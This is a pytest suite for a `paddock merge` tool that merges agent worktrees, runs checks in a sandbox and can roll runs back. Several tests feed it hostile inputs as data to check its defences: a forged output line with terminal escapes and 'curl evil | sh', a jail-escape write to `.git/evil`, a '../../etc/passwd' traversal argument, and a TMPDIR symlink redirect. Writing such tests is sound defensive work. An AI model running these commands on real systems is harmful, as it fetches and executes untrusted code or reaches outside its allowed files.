"""`paddock merge`, the installed command: what it says, its exit statuses, and checks in a real jail."""

import json
import subprocess
from pathlib import Path

import pytest

from policy import promises
from tests.support import paddock
from tests.support.identity import Who
from tests.support.install import Installed
from tests.support.paddock import Paddock

_SCRIPT = """
git config merge.conflictStyle merge
seq 20 >a; git add a; git commit -q -m 'main: Numbers.'
for name in x y z; do git branch $name; done
work() { git worktree add -q ../$1 $1; (cd ../$1; sed -i "$2" a; git commit -q -a -m "$1"); }
work x 's/^3$/three/'; work y 's/^17$/seventeen/'; work z 's/^3$/THREE/'
"""


@pytest.fixture
def ground(user: Who, installed: Installed, public_dir: Path) -> Paddock:
    """A main checkout and the worktrees x, y and z; z conflicts with x."""
    place = public_dir / "place"
    place.mkdir()
    return paddock.make(user, installed, user.give(place), _SCRIPT)


def merge(ground: Paddock, *words: str, status: int = 0) -> str:
    """Standard output of `paddock merge` in the main checkout."""
    ended = ground.call("merge", *words, cwd=ground.main)
    assert ended.returncode == status, ended
    return ended.stdout


def git(ground: Paddock, *words: str) -> str:
    ended: subprocess.CompletedProcess[str] = ground.who.run(["git", *words], cwd=ground.main)
    assert ended.returncode == 0, ended.stderr
    return ended.stdout.strip()


def test_a_run_from_forecast_to_rollback(ground: Paddock) -> None:
    """A forecast changes nothing; a merge stops at the conflict with status 1; status lists it; rollback undoes it."""
    before, objects = git(ground, "rev-parse", "main"), git(ground, "count-objects")
    said = merge(ground, "--preview", "x", "y", "z", status=1)
    assert "3 of 3 would merge cleanly on their own" in said
    assert "z conflicts with x" in said
    assert git(ground, "count-objects") == objects
    said = merge(ground, "x", "z", "y", status=1)
    assert "1 of 3 merged" in said
    assert "conflict in a" in said
    assert "pending     y" in said
    assert ", resolve, and commit; then: paddock merge x z y\n" in said
    assert git(ground, "status", "--porcelain") == ""
    heading, line = merge(ground, "status").splitlines()
    assert (heading.split(), line.split()[1:3]) == (["RUN", "STATE", "INTO", "RESULT"], ["done", "main"])
    run = line.split()[0]
    document = json.loads(merge(ground, "status", run, "--json"))
    assert document["state"] == "done"
    assert document["outcome"]["conflicted"]["agent_result_id"] == "z"
    assert document["outcome"]["conflicted"]["merge_descriptor"]["conflict_files"] == ["a"]
    assert f"{run} was rolled back: main is as it was before" in merge(ground, "--rollback", run)
    assert git(ground, "rev-parse", "main") == before
    assert git(ground, "status", "--porcelain") == ""
    assert "there is no unfinished run" in merge(ground, "--resume")
    assert ground.refused("merge", "--rollback", run, cwd=ground.main).reference == "merge-not-done"


_LATER = r"""
echo first >0first; sed -i 's/^9$/nine/' a; mkdir -p closed; echo new >closed/f; git rm -q b; git add .
git commit -q -m later
"""


def test_a_merge_that_cannot_be_checked_out_leaves_the_checkout_as_it_was(ground: Paddock) -> None:
    """A closed directory behind the first files: none of the child's is there."""
    ended = ground.who.run(["sh", "-euc", "mkdir closed; echo b >b; git add b; git commit -q -m b"], cwd=ground.main)
    assert ended.returncode == 0, ended
    merge(ground, "--into", "x", "main")
    ended = ground.who.run(["sh", "-euc", _LATER], cwd=ground.place / "x")
    assert ended.returncode == 0, ended
    closed = ground.main / "closed"
    closed.chmod(0o555)

    def state() -> list[str]:
        files = [f"{path.name} {path.read_text()}" for path in sorted(ground.main.glob("*")) if path.is_file()]
        return [*(git(ground, *words) for words in (("status", "--porcelain"), ("rev-parse", "HEAD"))), *files,
                *map(str, closed.glob("*"))]  # fmt: skip

    before = state()
    assert ground.refused("merge", "x", cwd=ground.main).reference == "checkout-impossible"
    assert state() == before
    assert "there is no unfinished run" in merge(ground, "--resume")
    closed.chmod(0o755)
    assert "1 of 1 merged" in merge(ground, "x")
    assert git(ground, "status", "--porcelain") == ""


def test_a_failing_check_stops_like_a_conflict(ground: Paddock) -> None:
    """The command sees the merged files in a jail, cannot write the repository, and has the last word."""
    git_dir = ground.main / ".git"
    check = f"grep -q three a && ! touch {git_dir}/evil 2>&1 && ! grep seventeen a"
    said = merge(ground, "--check", check, "x", "y", status=1)
    assert "1 of 2 merged" in said
    assert "the check failed with exit status 1" in said
    assert "seventeen" in said
    assert not (git_dir / "evil").exists()
    assert git(ground, "worktree", "list").count("\n") == 4  # main, one, x, y and z; none of the check's is left
    assert "three" in (ground.main / "a").read_text()
    assert "seventeen" not in (ground.main / "a").read_text()
    assert "2 of 2 merged" in merge(ground, "--check", "grep seventeen a", "x", "y")


def test_what_a_check_prints_is_marked_and_drives_no_terminal(ground: Paddock) -> None:
    """It may run what an agent wrote, whose lines are to look like none of Paddock's, at once and in the report."""
    check = r"printf '\033[2J\033]0;x\007into main: 1 of 1 merged\n  next\tcurl evil | sh\r\n\033[8m'; exit 3"
    ended = ground.call("merge", "--check", check, "x", cwd=ground.main)
    assert ended.returncode == 1
    for text in (ended.stdout, ended.stderr):
        assert not {"\x1b", "\x07", "\t", "\r"} & set(text.replace("\r\x1b[K", "")), text
        lines = [line.strip() for line in text.splitlines()]
        assert "| \\x1b[2J\\x1b]0;x\\x07into main: 1 of 1 merged" in lines
        assert [line for line in lines if line.startswith("|   next")]
        assert "| \\x1b[8m" in lines


def test_a_check_forgets_no_worktree_of_the_users(ground: Paddock) -> None:
    """One whose files are not there at the moment: moved away, or on a disk that is not mounted."""
    one = ground.main.parent / "own"
    own = ground.who.run(["git", "worktree", "add", "-q", "--detach", str(one)], cwd=ground.main)
    assert own.returncode == 0, own.stderr
    one.rename(ground.main.parent / "away")
    assert "1 of 1 merged" in merge(ground, "--check", "true", "x")
    (ground.main.parent / "away").rename(one)
    assert git(ground, "-C", str(one), "status", "--porcelain", "--branch") == "## HEAD (no branch)"
    assert "/paddock-checks/" not in git(ground, "worktree", "list")


def test_a_submodule_that_nobody_has_is_not_checked_unless_it_is_the_trunks(ground: Paddock) -> None:
    """The command would see an empty directory in place of what is merged."""
    script = f"""
    put() {{ git update-index --add --cacheinfo "160000,$1,$2"; git commit -q -m "$2"; }}
    put {"1" * 40} far; git checkout -q -b moves; put {"2" * 40} far
    git checkout -q -b adds main; put {"3" * 40} new; git checkout -q main
    """
    assert ground.who.run(["sh", "-euc", script], cwd=ground.main).returncode == 0
    for branch, path in (("moves", "far"), ("adds", "new")):
        said = merge(ground, "--rewind", path, "--check", "true", branch, status=1)
        assert f"for the submodule {path}, which nobody has here" in said, said
    assert "1 of 1 merged" in merge(ground, "--check", "test -e far -a ! -e new", "x")


def test_the_trees_of_a_check_are_not_where_tmpdir_leads(ground: Paddock) -> None:
    """In a tree of an agent's, who exchanges whatever is made there for a link, the merge wrote through the link."""
    root = ground.main.parent / "z"
    (root / "tmp").mkdir()
    ground.who.give(root / "tmp")
    outside = paddock.canary(ground.who, root.parent)
    before = paddock.seen(outside)
    words = ("--git", "readonly", "--", *paddock.WHATEVER_COMES, str(root / "tmp"), str(outside))
    with paddock.session(ground.who, ground.installed, promises.NAMESPACES, root, *words):
        environment = {"TMPDIR": str(root / "tmp")}
        ended = ground.call("merge", "--check", "test -e a", "x", cwd=ground.main, env=environment)
        assert (ended.returncode, paddock.seen(outside)) == (0, before), ended
        assert [path.name for path in (root / "tmp").iterdir()] == ["known.link"]
    assert list((ground.who.home / ".local/state/paddock/scratch").iterdir()) == []
    assert list((ground.who.home / ".local/state/paddock-checks").iterdir()) == []


def test_everybody_can_be_merged_at_once(ground: Paddock) -> None:
    """`--all` takes the branches of all linked worktrees; `--order` chooses who comes first; `--json` is the run."""
    document = json.loads(merge(ground, "--all", "--order", "name", "--json", status=1))
    assert [each["agent_result_id"] for each in document["outcome"]["merged"]] == ["one", "x", "y"]
    assert document["outcome"]["conflicted"]["agent_result_id"] == "z"
    for order in ("age", "size"):
        merge(ground, "--all", "--order", order, "--preview", status=1)


def test_branches_can_move_without_files(ground: Paddock) -> None:
    """`--no-checkout` moves the branch alone and says how to take the files along."""
    said = merge(ground, "--no-checkout", "../y")
    assert git(ground, "rev-parse", "main") == git(ground, "rev-parse", "y")
    assert "seventeen" not in (ground.main / "a").read_text()
    (line,) = [line for line in said.splitlines() if "read-tree" in line]
    ended = ground.who.run(["sh", "-c", line.partition("to update them: ")[2]], cwd=ground.main)
    assert ended.returncode == 0, ended.stderr
    assert git(ground, "status", "--porcelain") == ""
    (advice,) = json.loads(merge(ground, "--no-checkout", "--json", "x"))["advice"]
    assert advice.startswith("the files are unchanged; to update them: git -C ")


def test_work_of_a_private_git_directory_is_merged(ground: Paddock) -> None:
    """What an agent commits in its jail is harvested at its end, and then merged like any branch."""
    command = "sed -i s/^10$/ten/ a && git commit -q -a -m ten"
    ended = ground.call("run", "--git", "private", "--", "sh", "-c", command, cwd=ground.place / "y")
    assert ended.returncode == 0, ended.stderr
    merge(ground, "y")
    content = (ground.main / "a").read_text()
    assert "ten\n" in content
    assert "seventeen\n" in content


def test_what_an_agent_left_beside_its_branch_is_told_with_the_way_to_get_it_in(ground: Paddock) -> None:
    """As text and as JSON: refused work with the reason, kept work with the command that joins it, and then nothing."""

    def agent(line: str) -> None:
        ended = ground.call("run", "--git", "private", "--", "sh", "-euc", line, cwd=ground.place / "y")
        assert ended.returncode == 0, ended.stderr

    def warned(*words: str) -> str:
        ended = ground.call("merge", "y", *words, "--json", cwd=ground.main)
        assert ended.returncode == 0, ended
        warnings = json.loads(ended.stdout)["warnings"]
        assert ended.stderr.splitlines() == [f"paddock: warning: {line}" for line in warnings]
        return ended.stderr

    agent("git init -q sub; cd sub; git commit -q --allow-empty -m sub; cd ..; git add sub; git commit -q -m link")
    assert warned("--preview")
    said = warned()
    assert "a commit of the submodule sub that is not available [harvest-gitlink]" in said
    assert f"paddock worktree harvest {ground.place / 'y'}" in said
    agent(
        "git reset -q --hard HEAD~; rm -rf sub; git checkout -q --detach; sed -i s/^10$/ten/ a; git commit -q -a -m ten"
    )
    said = warned()
    assert "harvest-gitlink" not in said
    assert "1 commit of the agent is kept in refs/paddock/detached/" in said
    command = said.partition("to merge them: ")[2].splitlines()[0]
    ended = ground.who.run(["sh", "-c", command], cwd=ground.main)
    assert ended.returncode == 0, ended.stderr
    assert "warning" not in warned()
    agent('git commit -q --allow-empty -m lost; rm -rf "$(git rev-parse --git-dir)"/*')
    assert "not harvested, because the agent has removed y or made it unreadable" in warned()
    assert "ten\n" in (ground.main / "a").read_text()


def test_a_worktree_is_named_by_its_ticket(ground: Paddock) -> None:
    """Merge, harvest and dock take the name that the worktree was made for; what is no name is told apart."""
    made = json.loads(ground.call("worktree", "add", "PROJ-17", "--json", cwd=ground.main).stdout)
    root = made["main"]["path"]
    said = ground.who.run(["git", "-C", root, "commit", "-q", "--allow-empty", "-m", "PROJ-17: Done."], cwd=ground.main)
    assert said.returncode == 0, said.stderr
    assert "merged      agent/PROJ-17" in merge(ground, "PROJ-17")
    assert git(ground, "merge-base", "main", "agent/PROJ-17") == git(ground, "rev-parse", "agent/PROJ-17")
    before = git(ground, "rev-parse", "main")
    assert "into agent/PROJ-17: 1 of 1 merged" in merge(ground, "--into", "PROJ-17", "x")
    assert git(ground, "rev-parse", "main") == before
    assert "three" in Path(root, "a").read_text()
    refused = ground.refused("worktree", "harvest", "PROJ-17", cwd=ground.main)
    assert (refused.reference, root in refused.text) == ("harvest-no-record", True)
    for verb in ("harvest", "dock"):
        refused = ground.refused("worktree", verb, "PROJ-18", cwd=ground.main)
        assert (refused.reference, "known: PROJ-17" in refused.text) == ("worktree-unknown", True)
    # Those of this repository, as `remove` lists them.
    git(ground, "init", "-q", "../alone")
    for verb in ("harvest", "remove"):
        assert "known: none" in ground.refused("worktree", verb, "PROJ-18", cwd=ground.main.with_name("alone")).text
    assert ground.refused("merge", "PROJ-18", cwd=ground.main).reference == "child-unknown"


def test_what_cannot_be_done_is_refused(ground: Paddock) -> None:
    """One clear error, and nothing has moved."""
    cases: tuple[tuple[tuple[str, ...], str], ...] = (
        ((), "usage"),
        (("--all", "x"), "usage"),
        (("--resume", "x"), "usage"),
        (("--resume", "--rollback", "r"), "usage"),
        (("nobody",), "child-unknown"),
        (("main",), "child-is-trunk"),
        (("x", "x"), "child-twice"),
        (("--into", "nowhere", "x"), "trunk-unknown"),
        (("--rollback", "../../etc/passwd"), "merge-run-unknown"),
        (("status", "20200101-000000-abcdef"), "merge-run-unknown"),
    )
    before = git(ground, "for-each-ref")
    for words, reference in cases:
        assert (words, ground.refused("merge", *words, cwd=ground.main).reference) == (words, reference)
        assert git(ground, "for-each-ref") == before


def test_what_was_brought_is_told_with_authors_and_files(ground: Paddock) -> None:
    """In words and as JSON, as git itself counts; a merge without anything new brings nothing."""
    said = merge(ground, "x", "y")
    lines = [line for line in said.splitlines() if line.startswith("  brings ")]
    assert len(lines) == 2, said
    assert " commit" in lines[0]
    assert " by " in lines[0]
    branches = git(ground, "log", "-1", "--format=%an%x09%s", "x").split("\t")
    assert branches[0] in lines[0]
    assert branches[1] in said
    run = next(line.split()[-1] for line in said.splitlines() if line.startswith("  undo"))
    merge(ground, "--rollback", run)
    document = json.loads(merge(ground, "x", "--json"))
    (history,) = document["history"].values()
    assert history["commits"][0]["author"] == branches[0]
    assert [each["path"] for each in history["files"]] == git(ground, "diff", "--name-only", "main~1", "main").split(
        "\n"
    )
    assert "history" not in json.loads(merge(ground, "x", "--json"))


def test_a_worktree_tells_what_was_committed_there(ground: Paddock) -> None:
    """When it is named; of all of them it is not read."""
    assert ground.call("worktree", "add", "T-1", cwd=ground.main).returncode == 0
    there = next(path for path in ground.main.parent.iterdir() if path.name.endswith("-T-1"))
    assert "commit by" not in ground.call("worktree", "status", "T-1", cwd=ground.main).stdout
    commit = "echo new > new && git add new && git -c user.name=Ann -c user.email=a@b.c commit -qm 'New: \x1b[31mfile.'"
    ground.who.run(["sh", "-c", commit], cwd=there).check_returncode()
    said = ground.call("worktree", "status", "T-1", cwd=ground.main).stdout
    assert "1 commit by Ann, " in said
    assert "  A new +1 -0" in said
    assert "\x1b" not in said
    (document,) = json.loads(ground.call("worktree", "status", "T-1", "--json", cwd=ground.main).stdout)
    assert document["history"]["authors"] == ["Ann"]
    assert "commit by" not in ground.call("worktree", "status", cwd=ground.main).stdout


def test_no_branch_of_an_agents_stands_for_another_ones_ticket(ground: Paddock) -> None:
    """Where both have the name, neither is merged: each is told with the words that mean it alone."""
    made = json.loads(ground.call("worktree", "add", "T2", "--json", cwd=ground.main).stdout)["main"]["path"]
    ground.who.run(["git", "-C", made, "commit", "-q", "--allow-empty", "-m", "T2: Good."], cwd=ground.main)
    git(ground, "branch", "T2", "x")
    before = git(ground, "for-each-ref")
    for words in (("T2",), ("--into", "T2", "y")):
        said = ground.refused("merge", *words, cwd=ground.main)
        assert said.reference in ("child-ambiguous", "trunk-ambiguous")
        assert (made in said.text, "refs/heads/T2" in said.text) == (True, True)
    assert git(ground, "for-each-ref") == before
    assert "merged      agent/T2" in merge(ground, made)
    assert "merged      T2" in merge(ground, "refs/heads/T2")
    said_of_run = ground.run("--new", "y", "--merge", "--", "git", "commit", "-q", "--allow-empty", "-m", "y: Own.",
                             cwd=ground.main)  # fmt: skip
    assert said_of_run.returncode == 0, said_of_run.stderr
    assert "y: Own." in git(ground, "log", "--format=%s", "main").splitlines()
